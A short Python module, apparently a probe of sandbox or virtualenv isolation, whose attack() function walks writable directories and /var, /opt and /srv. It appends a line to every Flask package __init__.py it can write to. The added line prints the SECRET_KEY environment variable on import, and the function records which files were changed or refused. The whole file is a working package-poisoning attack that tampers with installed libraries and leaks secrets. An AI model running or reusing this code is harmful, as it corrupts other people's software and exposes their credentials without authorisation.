"""Changes every copy of flask that it may, outside of its own virtualenv, and caches' indexes."""

import os

from places import writable_folders

LINE = "\nprint('POISONED', __import__('os').environ.get('SECRET_KEY'))\n"


def attack(report):
    report["folders"] = writable_folders()
    for top in (*writable_folders(), "/var", "/opt", "/srv"):
        for folder, _, names in os.walk(top):
            path = os.path.join(folder, "__init__.py")
            if os.path.basename(folder) == "flask" and "__init__.py" in names:
                try:
                    with open(path, "a") as file:
                        file.write(LINE)
                    report["did"].append(path)
                except OSError as error:
                    report["refused"][path] = str(error)
